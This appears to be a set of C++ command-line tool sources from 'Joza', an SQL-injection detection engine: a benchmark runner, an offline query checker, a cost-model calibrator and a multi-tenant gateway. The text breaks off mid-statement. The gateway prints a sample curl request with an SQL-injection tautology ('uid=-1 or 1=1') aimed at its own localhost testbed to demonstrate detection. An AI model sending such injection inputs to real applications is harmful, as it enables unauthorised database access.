// joza_bench: the unified benchmark runner.
//
//   joza_bench --list
//   joza_bench --suite smoke [--seed N] [--quick] [--out FILE]
//              [--baseline FILE] [--check-baseline] [--update-baseline]
//
// Runs a named workload suite from the benchkit registry, prints its gate
// results, emits a schema-versioned BENCH_<suite>.json, and optionally
// diffs it against a committed baseline.
//
// Exit codes: 0 = gates passed, no regression; 1 = gate failure or
// baseline regression; 2 = unknown suite / bad usage / I/O failure.
#include <cstdio>
#include <cstdlib>
#include <string>

#include "benchkit/registry.h"
#include "benchkit/runner.h"

namespace {

void PrintUsage() {
  std::fprintf(stderr,
               "usage: joza_bench --suite NAME [options]\n"
               "       joza_bench --list\n"
               "\n"
               "options:\n"
               "  --suite NAME       suite to run (see --list)\n"
               "  --seed N           RNG seed for workload generation "
               "(default 2015)\n"
               "  --quick            smaller workloads for fast iteration\n"
               "  --out FILE         write results JSON here (default "
               "BENCH_<suite>.json;\n"
               "                     BENCH_<suite>.fresh.json when the "
               "default would\n"
               "                     overwrite the baseline being checked)\n"
               "  --baseline FILE    baseline JSON to diff against "
               "(default BENCH_<suite>.json)\n"
               "  --check-baseline   fail (exit 1) on baseline regression\n"
               "  --update-baseline  write results over the baseline file\n"
               "  --list             list available suites\n");
}

void PrintSuites() {
  std::printf("available suites:\n");
  for (const joza::benchkit::SuiteSpec& spec : joza::benchkit::Suites()) {
    std::printf("  %-12s %s\n", spec.name.c_str(), spec.description.c_str());
  }
}

}  // namespace

int main(int argc, char** argv) {
  std::string suite;
  std::string out_path;
  std::string baseline_path;
  bool check_baseline = false;
  bool update_baseline = false;
  joza::benchkit::SuiteOptions suite_options;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "joza_bench: %s needs a value\n", arg.c_str());
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--list") {
      PrintSuites();
      return 0;
    } else if (arg == "--suite") {
      suite = next();
    } else if (arg == "--seed") {
      suite_options.seed = std::strtoull(next(), nullptr, 10);
    } else if (arg == "--quick") {
      suite_options.quick = true;
    } else if (arg == "--out") {
      out_path = next();
    } else if (arg == "--baseline") {
      baseline_path = next();
    } else if (arg == "--check-baseline") {
      check_baseline = true;
    } else if (arg == "--update-baseline") {
      update_baseline = true;
    } else if (arg == "--help" || arg == "-h") {
      PrintUsage();
      return 0;
    } else {
      std::fprintf(stderr, "joza_bench: unknown flag %s\n", arg.c_str());
      PrintUsage();
      return 2;
    }
  }

  if (suite.empty()) {
    PrintUsage();
    return 2;
  }

  joza::benchkit::RunnerOptions options;
  options.suite = suite_options;
  const std::string default_json = "BENCH_" + suite + ".json";
  if (baseline_path.empty()) baseline_path = default_json;

  if (update_baseline) {
    // Refresh the committed trajectory file in place; no comparison.
    options.out_path = out_path.empty() ? baseline_path : out_path;
  } else {
    options.baseline_path = baseline_path;
    options.check_baseline = check_baseline;
    if (out_path.empty()) {
      // Never clobber the baseline we are about to diff against.
      out_path = (baseline_path == default_json)
                     ? "BENCH_" + suite + ".fresh.json"
                     : default_json;
    }
    options.out_path = out_path;
  }

  return joza::benchkit::RunSuiteAndReport(suite, options);
}
