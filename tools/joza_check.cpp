// joza_check — offline query checker.
//
// Loads a fragment set produced by joza_scan and runs the hybrid analysis
// on queries from the command line or stdin (one per line). Inputs for the
// NTI half are supplied as name=value arguments.
//
//   joza_check --fragments app.jzfr [--input id=5]... [--strict] [query...]
#include <cstdio>
#include <cstring>
#include <iostream>
#include <string>
#include <vector>

#include "core/joza.h"
#include "phpsrc/installer.h"

namespace {

void Usage() {
  std::puts(
      "usage: joza_check --fragments <file> [options] [query ...]\n"
      "  --input <name=value>  HTTP input NTI correlates (repeatable)\n"
      "  --threshold <t>       NTI difference-ratio threshold (default 0.2)\n"
      "  --strict              Ray-Ligatti policy: identifiers critical\n"
      "  --nti-only | --pti-only\n"
      "queries are read from stdin (one per line) when none are given");
}

}  // namespace

int main(int argc, char** argv) {
  using namespace joza;
  std::string fragments_path;
  std::vector<http::Input> inputs;
  core::JozaConfig config;
  std::vector<std::string> queries;

  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--fragments") == 0 && i + 1 < argc) {
      fragments_path = argv[++i];
    } else if (std::strcmp(argv[i], "--input") == 0 && i + 1 < argc) {
      std::string pair = argv[++i];
      std::size_t eq = pair.find('=');
      if (eq == std::string::npos) {
        Usage();
        return 2;
      }
      inputs.push_back({http::InputKind::kGet, pair.substr(0, eq),
                        pair.substr(eq + 1)});
    } else if (std::strcmp(argv[i], "--threshold") == 0 && i + 1 < argc) {
      config.nti.threshold = std::atof(argv[++i]);
    } else if (std::strcmp(argv[i], "--strict") == 0) {
      config.nti.strict_tokens = true;
      config.pti.strict_tokens = true;
    } else if (std::strcmp(argv[i], "--nti-only") == 0) {
      config.enable_pti = false;
    } else if (std::strcmp(argv[i], "--pti-only") == 0) {
      config.enable_nti = false;
    } else if (argv[i][0] == '-') {
      Usage();
      return 2;
    } else {
      queries.emplace_back(argv[i]);
    }
  }
  if (fragments_path.empty()) {
    Usage();
    return 2;
  }
  auto fragments = php::LoadFragments(fragments_path);
  if (!fragments.ok()) {
    std::fprintf(stderr, "joza_check: %s\n",
                 fragments.status().ToString().c_str());
    return 1;
  }
  core::Joza engine(std::move(fragments.value()), config);

  if (queries.empty()) {
    std::string line;
    while (std::getline(std::cin, line)) {
      if (!line.empty()) queries.push_back(line);
    }
  }

  int attacks = 0;
  for (const std::string& q : queries) {
    core::Verdict v = engine.Check(q, inputs);
    if (v.attack) ++attacks;
    std::printf("%-7s %s\n",
                v.attack ? core::DetectedByName(v.detected_by) : "safe",
                q.c_str());
    for (const auto& t : v.pti.untrusted_critical_tokens) {
      std::printf("        PTI: untrusted token \"%.*s\" at byte %zu\n",
                  static_cast<int>(t.text.size()), t.text.data(),
                  t.span.begin);
    }
    for (const auto& m : v.nti.markings) {
      std::printf(
          "        NTI: input \"%s\" matched bytes [%zu,%zu) ratio %.3f\n",
          m.input_name.c_str(), m.span.begin, m.span.end, m.ratio);
    }
  }
  return attacks > 0 ? 3 : 0;
}
