// joza_calibrate: measure per-stage matcher costs and emit a cost model.
//
//   joza_calibrate [--out FILE] [--quick] [--seed N]
//                  [--verify FILE] [--print FILE]
//
// Runs the calibration sweep (micro-benchmarks of every matcher stage over
// an input-count x pattern-length x threshold x vocabulary-size grid),
// least-squares fits a base + per-byte cost curve per stage, and writes a
// schema-versioned, checksummed JZCM01 artifact. The engine loads it via
// --cost-model / JozaConfig::cost_model; a missing or corrupt artifact
// fails closed to the built-in hand-tuned defaults.
//
// --quick shrinks the sweep grid for CI smoke runs (seconds instead of
// minutes; coarser fits, same format). After writing, the artifact is
// reloaded and byte-verified — a model this tool exits 0 on is guaranteed
// loadable by the engine.
//
// --verify FILE only loads and validates an existing artifact (no sweep);
// --print FILE additionally dumps the per-stage cost table. Both exit
// nonzero on any parse/validation failure.
//
// Exit codes: 0 success, 2 usage error, 3 calibration/save failure,
// 4 verify/load failure.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "costmodel/calibrate.h"
#include "costmodel/codec.h"
#include "costmodel/costmodel.h"

namespace {

constexpr int kExitUsage = 2;
constexpr int kExitCalibrate = 3;
constexpr int kExitVerify = 4;

int UsageError(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s [--out FILE] [--quick] [--seed N]\n"
               "          [--verify FILE] [--print FILE]\n",
               argv0);
  return kExitUsage;
}

void PrintModel(const joza::costmodel::CostModel& model) {
  std::printf("%-14s %14s %14s\n", "stage", "base_ns", "per_byte_ns");
  for (std::size_t i = 0; i < joza::costmodel::kStageCount; ++i) {
    const auto stage = static_cast<joza::costmodel::Stage>(i);
    const joza::costmodel::StageCurve& c = model.curve(stage);
    std::printf("%-14s %14.3f %14.6f\n", joza::costmodel::StageName(stage),
                c.base_ns, c.per_byte_ns);
  }
  std::printf("calibration samples: %llu\n",
              static_cast<unsigned long long>(model.calibration_samples));
}

}  // namespace

int main(int argc, char** argv) {
  using namespace joza;

  std::string out = "cost_model.jzcm";
  std::string verify_path;
  bool print_verified = false;
  costmodel::CalibrationOptions options;

  for (int i = 1; i < argc; ++i) {
    auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    const char* value = nullptr;
    if (std::strcmp(argv[i], "--out") == 0 && (value = next())) {
      out = value;
    } else if (std::strcmp(argv[i], "--quick") == 0) {
      options.quick = true;
    } else if (std::strcmp(argv[i], "--seed") == 0 && (value = next())) {
      options.seed = static_cast<std::uint64_t>(std::strtoull(value, nullptr, 10));
    } else if (std::strcmp(argv[i], "--verify") == 0 && (value = next())) {
      verify_path = value;
    } else if (std::strcmp(argv[i], "--print") == 0 && (value = next())) {
      verify_path = value;
      print_verified = true;
    } else {
      return UsageError(argv[0]);
    }
  }

  if (!verify_path.empty()) {
    auto loaded = costmodel::LoadCostModel(verify_path);
    if (!loaded.ok()) {
      std::fprintf(stderr, "verify failed: %s: %s\n", verify_path.c_str(),
                   loaded.status().ToString().c_str());
      return kExitVerify;
    }
    std::printf("%s: valid JZCM01 cost model\n", verify_path.c_str());
    if (print_verified) PrintModel(loaded.value());
    return 0;
  }

  std::printf("calibrating (%s sweep, seed %llu)...\n",
              options.quick ? "quick" : "full",
              static_cast<unsigned long long>(options.seed));
  const costmodel::CostModel model = costmodel::Calibrate(options);
  if (Status st = costmodel::ValidateModel(model); !st.ok()) {
    std::fprintf(stderr, "calibration produced an invalid model: %s\n",
                 st.ToString().c_str());
    return kExitCalibrate;
  }
  PrintModel(model);

  if (Status st = costmodel::SaveCostModel(out, model); !st.ok()) {
    std::fprintf(stderr, "save failed: %s: %s\n", out.c_str(),
                 st.ToString().c_str());
    return kExitCalibrate;
  }

  // Round-trip verification: the artifact just written must load back
  // bit-identically, so a 0 exit here proves the engine can consume it.
  auto reloaded = costmodel::LoadCostModel(out);
  if (!reloaded.ok()) {
    std::fprintf(stderr, "round-trip reload failed: %s\n",
                 reloaded.status().ToString().c_str());
    return kExitCalibrate;
  }
  const std::string a = costmodel::EncodeCostModel(model);
  const std::string b = costmodel::EncodeCostModel(reloaded.value());
  if (a != b) {
    std::fprintf(stderr, "round-trip mismatch: reloaded model differs\n");
    return kExitCalibrate;
  }
  std::printf("wrote %s (%zu bytes, round-trip verified)\n", out.c_str(),
              a.size());
  return 0;
}
