// joza_gateway: serve the protected testbed behind the concurrent gateway.
//
//   joza_gateway [--port N] [--workers N] [--cache-capacity N]
//                [--io-model threads|epoll] [--event-shards N]
//                [--pti inproc|pool] [--pool-size N] [--duration SECONDS]
//                [--deadline-ms N] [--degraded fail-closed|nti-only]
//                [--breaker-threshold N] [--fault point[:rate]]...
//                [--hedge-ms N] [--hedge-p99] [--restart-budget N]
//                [--snapshot-path FILE] [--source-updates N]
//                [--tenants FILE] [--memory-budget-mb N] [--cold-dir DIR]
//                [--unknown-tenant default|404] [--cost-model FILE]
//
// Binds 127.0.0.1 (port 0 picks a free port), installs one shared Joza
// engine across the whole worker pool, and serves until the duration
// elapses (0 = forever, until SIGINT/SIGTERM). With --pti pool, PTI
// analysis runs out-of-process through the daemon pool, the deployment
// shape Section IV-C1 describes. Prints engine + gateway stats on exit.
//
// Serving io model: --io-model epoll (the default) runs the edge-triggered
// event loop with --event-shards per-core shards (default: hardware
// threads), each owning its own SO_REUSEPORT accept socket and draining
// ready requests in admission batches; --io-model threads restores the
// blocking accept-loop + worker-pool model. --event-shards must be >= 1.
//
// Fault tolerance knobs: --deadline-ms bounds each request's processing
// budget (0 disables), --degraded picks what happens while the PTI backend
// is down (blocked via error virtualization, or NTI-only verdicts),
// --breaker-threshold sets the circuit breaker's consecutive-failure trip
// point (0 disables the breaker), and each --fault arms a fault-injection
// point (daemon-hang, daemon-kill, frame-corrupt, short-write, accept-fail,
// slow-client, spawn-fail, snapshot-io, hedge-loss) at the given rate in
// [0,1] (bare name = always fire).
//
// Resilience knobs: --hedge-ms races a second daemon attempt once the
// primary has been in flight that long (0 disables; --hedge-p99 derives
// the delay from the p99 of recent round trips instead), --restart-budget
// caps the supervisor's respawn token bucket (0 disables supervision),
// --snapshot-path persists every published ruleset generation to a
// checksummed snapshot file and warm-starts from it after a crash, and
// --source-updates applies N synthetic fragment updates at startup (each
// advances the ruleset version and persists — the kill -9 recovery smoke
// test's version source).
//
// Multi-tenant knobs: --tenants names a spec file (one tenant id per line,
// '#' comments) and switches the server to a tenant::Fleet of per-tenant
// engines, routed by the X-Joza-Tenant header or a /t/<tenant>/ URL prefix
// (the default tenant serves unrouted traffic). --memory-budget-mb bounds
// the fleet's hot resident set (0 = unbudgeted; cold tenants spill to
// --cold-dir as mmap-backed ruleset images and rebuild on first touch),
// and --unknown-tenant picks the policy for unregistered ids (fall back to
// the default tenant, or answer 404). With --snapshot-path each tenant
// persists to and warm-starts from <path>.<tenant>; the default tenant
// also migrates a legacy un-suffixed snapshot.
//
// --cost-model FILE loads a calibrated JZCM01 cost model (produced by
// joza_calibrate) and steers every matcher strategy decision — the NTI
// exact stage, the PTI ruleset plan, and the gateway's batched admission —
// through it. A missing or corrupt artifact fails closed to the built-in
// hand-tuned defaults (with a warning), never to a garbage model.
//
// Exit codes: 0 success, 2 config/usage parse failure, 3 bind/listen
// failure.
#include <csignal>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "attack/catalog.h"
#include "core/joza.h"
#include "costmodel/codec.h"
#include "gateway/gateway.h"
#include "ipc/daemon_pool.h"
#include "phpsrc/fragments.h"
#include "resilience/circuit_breaker.h"
#include "resilience/injector.h"
#include "resilience/snapshot.h"
#include "resilience/supervisor.h"
#include "tenant/fleet.h"

namespace {

constexpr int kExitConfigError = 2;
constexpr int kExitBindError = 3;

std::atomic<bool> g_stop{false};

void OnSignal(int) { g_stop.store(true); }

int UsageError(const char* argv0) {
  std::fprintf(
      stderr,
      "usage: %s [--port N] [--workers N] [--cache-capacity N]\n"
      "          [--io-model threads|epoll] [--event-shards N]\n"
      "          [--pti inproc|pool] [--pool-size N] [--duration SECONDS]\n"
      "          [--deadline-ms N] [--degraded fail-closed|nti-only]\n"
      "          [--breaker-threshold N] [--fault point[:rate]]...\n"
      "          [--hedge-ms N] [--hedge-p99] [--restart-budget N]\n"
      "          [--snapshot-path FILE] [--source-updates N]\n"
      "          [--tenants FILE] [--memory-budget-mb N] [--cold-dir DIR]\n"
      "          [--unknown-tenant default|404] [--cost-model FILE]\n",
      argv0);
  return kExitConfigError;
}

// One tenant id per line; blank lines and '#' comments ignored.
bool ReadTenantSpec(const std::string& path, std::vector<std::string>* out) {
  std::ifstream in(path);
  if (!in) return false;
  std::string line;
  while (std::getline(in, line)) {
    const std::size_t start = line.find_first_not_of(" \t\r");
    if (start == std::string::npos || line[start] == '#') continue;
    const std::size_t end = line.find_last_not_of(" \t\r");
    out->push_back(line.substr(start, end - start + 1));
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace joza;

  int port = 0;
  std::size_t workers = 4;
  std::size_t cache_capacity = 1 << 16;
  gateway::GatewayConfig::IoModel io_model =
      gateway::GatewayConfig::IoModel::kEpoll;
  std::size_t event_shards = std::thread::hardware_concurrency();
  if (event_shards == 0) event_shards = 1;
  std::size_t pool_size = 4;
  bool use_pool = false;
  long duration_s = 0;
  long deadline_ms = 2000;
  long hedge_ms = 0;
  bool hedge_p99 = false;
  double restart_budget = 16;
  std::string snapshot_path;
  long source_updates = 0;
  std::string tenants_file;
  long memory_budget_mb = 0;
  std::string cold_dir = "joza_cold";
  gateway::GatewayConfig::UnknownTenant unknown_tenant =
      gateway::GatewayConfig::UnknownTenant::kDefaultTenant;
  std::size_t breaker_threshold = 5;
  joza::core::DegradedMode degraded_mode =
      joza::core::DegradedMode::kFailClosed;
  std::string cost_model_path;

  for (int i = 1; i < argc; ++i) {
    auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    const char* value = nullptr;
    if (std::strcmp(argv[i], "--port") == 0 && (value = next())) {
      port = std::atoi(value);
    } else if (std::strcmp(argv[i], "--workers") == 0 && (value = next())) {
      workers = static_cast<std::size_t>(std::atol(value));
    } else if (std::strcmp(argv[i], "--cache-capacity") == 0 &&
               (value = next())) {
      cache_capacity = static_cast<std::size_t>(std::atol(value));
    } else if (std::strcmp(argv[i], "--io-model") == 0 && (value = next())) {
      if (std::strcmp(value, "threads") == 0) {
        io_model = gateway::GatewayConfig::IoModel::kThreads;
      } else if (std::strcmp(value, "epoll") == 0) {
        io_model = gateway::GatewayConfig::IoModel::kEpoll;
      } else {
        std::fprintf(stderr, "bad --io-model '%s' (threads|epoll)\n", value);
        return UsageError(argv[0]);
      }
    } else if (std::strcmp(argv[i], "--event-shards") == 0 &&
               (value = next())) {
      event_shards = static_cast<std::size_t>(std::atol(value));
      if (event_shards == 0) {
        std::fprintf(stderr, "--event-shards must be >= 1\n");
        return UsageError(argv[0]);
      }
    } else if (std::strcmp(argv[i], "--pool-size") == 0 && (value = next())) {
      pool_size = static_cast<std::size_t>(std::atol(value));
    } else if (std::strcmp(argv[i], "--pti") == 0 && (value = next())) {
      if (std::strcmp(value, "pool") == 0) {
        use_pool = true;
      } else if (std::strcmp(value, "inproc") != 0) {
        return UsageError(argv[0]);
      }
    } else if (std::strcmp(argv[i], "--duration") == 0 && (value = next())) {
      duration_s = std::atol(value);
    } else if (std::strcmp(argv[i], "--deadline-ms") == 0 && (value = next())) {
      deadline_ms = std::atol(value);
    } else if (std::strcmp(argv[i], "--hedge-ms") == 0 && (value = next())) {
      hedge_ms = std::atol(value);
    } else if (std::strcmp(argv[i], "--hedge-p99") == 0) {
      hedge_p99 = true;
    } else if (std::strcmp(argv[i], "--restart-budget") == 0 &&
               (value = next())) {
      restart_budget = std::atof(value);
    } else if (std::strcmp(argv[i], "--snapshot-path") == 0 &&
               (value = next())) {
      snapshot_path = value;
    } else if (std::strcmp(argv[i], "--source-updates") == 0 &&
               (value = next())) {
      source_updates = std::atol(value);
    } else if (std::strcmp(argv[i], "--tenants") == 0 && (value = next())) {
      tenants_file = value;
    } else if (std::strcmp(argv[i], "--memory-budget-mb") == 0 &&
               (value = next())) {
      memory_budget_mb = std::atol(value);
    } else if (std::strcmp(argv[i], "--cold-dir") == 0 && (value = next())) {
      cold_dir = value;
    } else if (std::strcmp(argv[i], "--unknown-tenant") == 0 &&
               (value = next())) {
      if (std::strcmp(value, "404") == 0) {
        unknown_tenant = gateway::GatewayConfig::UnknownTenant::kNotFound;
      } else if (std::strcmp(value, "default") != 0) {
        std::fprintf(stderr, "bad --unknown-tenant '%s' (default|404)\n",
                     value);
        return UsageError(argv[0]);
      }
    } else if (std::strcmp(argv[i], "--breaker-threshold") == 0 &&
               (value = next())) {
      breaker_threshold = static_cast<std::size_t>(std::atol(value));
    } else if (std::strcmp(argv[i], "--degraded") == 0 && (value = next())) {
      if (std::strcmp(value, "nti-only") == 0) {
        degraded_mode = core::DegradedMode::kNtiOnly;
      } else if (std::strcmp(value, "fail-closed") != 0) {
        return UsageError(argv[0]);
      }
    } else if (std::strcmp(argv[i], "--cost-model") == 0 && (value = next())) {
      cost_model_path = value;
    } else if (std::strcmp(argv[i], "--fault") == 0 && (value = next())) {
      if (Status st = resilience::ArmFromSpec(
              resilience::FaultInjector::Global(), value);
          !st.ok()) {
        std::fprintf(stderr, "bad --fault spec '%s': %s\n", value,
                     st.ToString().c_str());
        return UsageError(argv[0]);
      }
    } else {
      return UsageError(argv[0]);
    }
  }

  auto proto = attack::MakeTestbed();
  core::JozaConfig config;
  config.cache_capacity = cache_capacity;
  config.degraded_mode = degraded_mode;
  config.breaker.failure_threshold = breaker_threshold;

  // Calibrated cost model: fail-closed. Any load anomaly (missing,
  // truncated, corrupt, implausible coefficients) leaves cost_model null
  // and every planner on the built-in hand-tuned defaults.
  bool cost_model_loaded = false;
  if (!cost_model_path.empty()) {
    auto model = costmodel::LoadCostModel(cost_model_path);
    if (model.ok()) {
      config.cost_model = std::make_shared<const costmodel::CostModel>(
          std::move(model).value());
      cost_model_loaded = true;
    } else {
      std::fprintf(stderr,
                   "cost model not loaded (builtin heuristics): %s\n",
                   model.status().ToString().c_str());
    }
  }

  // Warm start: recover the fragment vocabulary + ruleset version from the
  // crash-durable snapshot. Any anomaly (missing, truncated, corrupt,
  // wrong format) loads fail-closed: cold start from the application
  // sources at version 0 — a bad snapshot never widens the vocabulary.
  php::FragmentSet seed = php::FragmentSet::FromSources(proto->sources());
  const bool fleet_mode = !tenants_file.empty();

  // Warm start (single-engine mode; the fleet does its own per-tenant
  // loads). The engine owns the default tenant's qualified snapshot path;
  // the loader's migration shim still accepts a legacy un-suffixed file.
  std::uint64_t recovered_version = 0;
  bool warm_started = false;
  if (!fleet_mode && !snapshot_path.empty()) {
    auto snap = resilience::LoadTenantRulesetSnapshot(
        snapshot_path, resilience::kDefaultTenantName);
    if (snap.ok()) {
      recovered_version = snap->version;
      seed = std::move(snap->fragments);
      warm_started = true;
    } else {
      std::fprintf(stderr, "snapshot not recovered (cold start): %s\n",
                   snap.status().ToString().c_str());
    }
  }
  config.initial_ruleset_version = recovered_version;
  core::Joza joza(seed, config);
  if (warm_started) {
    joza.NoteSnapshotLoad();
    std::printf("warm start: ruleset version %llu (%zu fragments) from %s\n",
                static_cast<unsigned long long>(recovered_version),
                seed.size(), snapshot_path.c_str());
  }
  if (!fleet_mode && !snapshot_path.empty()) {
    const std::string save_path = resilience::TenantSnapshotPath(
        snapshot_path, resilience::kDefaultTenantName);
    joza.SetSnapshotSink([save_path](const php::FragmentSet& fragments,
                                     std::uint64_t version) {
      return resilience::SaveRulesetSnapshot(save_path, fragments, version);
    });
  }

  std::unique_ptr<ipc::DaemonPool> pool;
  if (use_pool && !fleet_mode) {
    ipc::DaemonPool::Options options;
    options.max_size = pool_size;
    options.supervisor.restart_budget = restart_budget;
    options.hedge_delay = std::chrono::milliseconds(hedge_ms);
    options.hedge_from_p99 = hedge_p99;
    options.base_version = recovered_version;
    pool = std::make_unique<ipc::DaemonPool>(seed, options);
    joza.SetPtiBackend(pool->AsPtiBackend());
  }

  // Multi-tenant fleet: every listed tenant gets the testbed vocabulary
  // plus one tenant-unique marker fragment, so cross-tenant routing bugs
  // change verdicts instead of hiding behind identical rulesets.
  std::unique_ptr<tenant::Fleet> fleet;
  if (fleet_mode) {
    std::vector<std::string> ids;
    if (!ReadTenantSpec(tenants_file, &ids)) {
      std::fprintf(stderr, "cannot read --tenants file %s\n",
                   tenants_file.c_str());
      return kExitConfigError;
    }
    tenant::FleetOptions fopts;
    fopts.engine = config;
    fopts.engine.initial_ruleset_version = 0;  // per-tenant versions
    fopts.memory_budget_bytes =
        static_cast<std::uint64_t>(memory_budget_mb) * 1024 * 1024;
    fopts.cold_dir = cold_dir;
    fopts.use_daemon_pool = use_pool;
    fopts.pool.max_size = pool_size;
    fopts.pool.supervisor.restart_budget = restart_budget;
    fopts.pool.hedge_delay = std::chrono::milliseconds(hedge_ms);
    fopts.pool.hedge_from_p99 = hedge_p99;
    fopts.snapshot_base = snapshot_path;
    fleet = std::make_unique<tenant::Fleet>(fopts);
    if (Status st = fleet->AddTenant(tenant::kDefaultTenant, seed);
        !st.ok()) {
      std::fprintf(stderr, "default tenant: %s\n", st.ToString().c_str());
      return kExitConfigError;
    }
    for (const std::string& id : ids) {
      if (id == tenant::kDefaultTenant) continue;
      php::FragmentSet tenant_seed = seed;
      tenant_seed.AddRaw("SELECT marker_" + id + " FROM posts",
                         "tenant/" + id + ".php");
      if (Status st = fleet->AddTenant(id, std::move(tenant_seed));
          !st.ok()) {
        std::fprintf(stderr, "tenant %s: %s\n", id.c_str(),
                     st.ToString().c_str());
        return kExitConfigError;
      }
    }
  }

  gateway::GatewayConfig gcfg;
  gcfg.port = port;
  gcfg.workers = workers;
  gcfg.io_model = io_model;
  gcfg.event_shards = event_shards;
  gcfg.request_deadline = std::chrono::milliseconds(deadline_ms);
  gcfg.unknown_tenant = unknown_tenant;
  auto factory = [] { return attack::MakeTestbed(); };
  auto server =
      fleet ? std::make_unique<gateway::GatewayServer>(factory, fleet.get(),
                                                       gcfg)
            : std::make_unique<gateway::GatewayServer>(factory, &joza, gcfg);
  if (pool) {
    server->SetResilienceProvider([&pool](gateway::GatewayStats& gs) {
      const auto ps = pool->stats();
      gs.restarts = ps.supervisor.restarts;
      gs.quarantines = ps.supervisor.quarantines;
      gs.hedges_won = ps.hedges_won;
      gs.retries_denied = ps.retries_denied;
    });
  }
  auto bound = server->Start();
  if (!bound.ok()) {
    std::fprintf(stderr, "start failed: %s\n",
                 bound.status().ToString().c_str());
    return kExitBindError;
  }
  std::printf(
      "joza_gateway on 127.0.0.1:%d  (%zu workers, cache %zu, PTI %s,\n"
      "              deadline %ld ms, degraded %s, breaker threshold %zu,\n"
      "              hedge %ld ms%s, restart budget %.0f)\n",
      bound.value(), workers, cache_capacity,
      use_pool ? "daemon pool" : "in-process", deadline_ms,
      core::DegradedModeName(degraded_mode), breaker_threshold, hedge_ms,
      hedge_p99 ? " (p99-derived)" : "", restart_budget);
  if (const std::size_t shards = server->shard_count(); shards > 0) {
    std::printf("io model:     epoll, %zu event shards, batch max %zu\n",
                shards, gcfg.batch_max);
  } else {
    std::printf("io model:     threads\n");
  }
  std::printf("cost model:   %s\n",
              cost_model_loaded ? cost_model_path.c_str()
                                : "builtin heuristics");
  if (fleet) {
    std::printf("fleet:        %zu tenants, budget %ld MB, cold dir %s, "
                "unknown-tenant %s\n",
                fleet->TenantIds().size(), memory_budget_mb,
                cold_dir.c_str(),
                unknown_tenant ==
                        gateway::GatewayConfig::UnknownTenant::kNotFound
                    ? "404"
                    : "default");
  }
  for (unsigned p = 0;
       p < static_cast<unsigned>(resilience::FaultPoint::kCount); ++p) {
    const auto point = static_cast<resilience::FaultPoint>(p);
    if (resilience::FaultInjector::Global().armed(point)) {
      std::printf("fault armed:  %s at rate %.3f\n",
                  resilience::FaultPointName(point),
                  resilience::FaultInjector::Global().rate(point));
    }
  }
  std::printf("try: curl 'http://127.0.0.1:%d/post?id=7'\n", bound.value());
  std::printf("     curl 'http://127.0.0.1:%d"
              "/plugins/community-events?uid=-1%%20or%%201%%3D1'\n",
              bound.value());

  // Synthetic fragment updates: each advances the ruleset version by one
  // and (with --snapshot-path) persists the new generation — the version
  // source for the kill -9 warm-restart smoke test.
  for (long u = 1; u <= source_updates; ++u) {
    const std::string marker =
        "update_marker_" +
        std::to_string(recovered_version + static_cast<std::uint64_t>(u));
    php::SourceFile file;
    file.path = "synthetic/update_" + std::to_string(u) + ".php";
    file.content = "<?php $q = \"SELECT " + marker + " FROM posts\"; ?>";
    if (fleet) {
      // Updates apply to hot tenants; pin the default tenant first so the
      // update lands (and persists through its tenant-qualified sink).
      (void)fleet->Acquire(tenant::kDefaultTenant);
      (void)fleet->OnSourcesChanged(tenant::kDefaultTenant, {file});
    } else {
      joza.OnSourcesChanged({file});
      if (pool) {
        (void)pool->AddFragments({"SELECT " + marker + " FROM posts"});
      }
    }
  }
  if (source_updates > 0) {
    const std::uint64_t version = fleet
                                      ? fleet->AggregateEngineStats()
                                            .ruleset_version
                                      : joza.ruleset_version();
    std::printf("applied %ld source updates; ruleset version now %llu\n",
                source_updates, static_cast<unsigned long long>(version));
    std::fflush(stdout);
  }

  std::signal(SIGINT, OnSignal);
  std::signal(SIGTERM, OnSignal);
  const auto deadline =
      std::chrono::steady_clock::now() + std::chrono::seconds(duration_s);
  while (!g_stop.load()) {
    if (duration_s > 0 && std::chrono::steady_clock::now() >= deadline) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    if (pool) pool->ReapIdle();
    if (fleet) fleet->ReapIdle();
  }

  server->Stop();
  const gateway::GatewayStats gs = server->stats();
  const core::JozaStats js = fleet ? fleet->AggregateEngineStats()
                                   : joza.stats();
  std::printf("\nconnections: %zu accepted, %zu rejected (503)\n",
              gs.connections_accepted, gs.connections_rejected);
  std::printf("requests:    %zu served, %zu keep-alive reuses, %zu bad, "
              "%zu timeouts (408), %zu oversized (413)\n",
              gs.requests_served, gs.keepalive_reuses, gs.bad_requests,
              gs.request_timeouts, gs.oversized_requests);
  std::printf("admission:   limit %llu, %zu throttled (429), "
              "%zu shed by deadline (503), shed p99 %llu us\n",
              static_cast<unsigned long long>(gs.admission_limit),
              gs.throttled_by_limiter, gs.shed_by_deadline,
              static_cast<unsigned long long>(gs.shed_p99_us));
  std::printf("io:          %zu accept overflows, %zu batches / "
              "%zu batched requests (max %zu), "
              "%llu exact scans, %llu reuses\n",
              gs.accept_overflows, gs.batches, gs.batched_requests,
              gs.max_batch,
              static_cast<unsigned long long>(gs.batch_exact_scans),
              static_cast<unsigned long long>(gs.batch_exact_reuses));
  const std::vector<gateway::ShardStats> shards = server->shard_stats();
  for (std::size_t s = 0; s < shards.size(); ++s) {
    const gateway::ShardStats& sh = shards[s];
    std::printf("shard %zu:     %zu conns, %zu batches, %zu requests, "
                "sizes 1:%zu 2:%zu 3-4:%zu 5-8:%zu 9-16:%zu 17+:%zu\n",
                s, sh.connections, sh.batches, sh.requests,
                sh.batch_histogram[0], sh.batch_histogram[1],
                sh.batch_histogram[2], sh.batch_histogram[3],
                sh.batch_histogram[4], sh.batch_histogram[5]);
  }
  std::printf("joza:        %zu queries, %zu attacks blocked, "
              "%zu+%zu cache hits, %zu evictions\n",
              js.queries_checked, js.attacks_detected, js.query_cache_hits,
              js.structure_cache_hits, js.cache_evictions);
  std::printf("ruleset:     version %llu, %zu snapshot swaps\n",
              static_cast<unsigned long long>(js.ruleset_version),
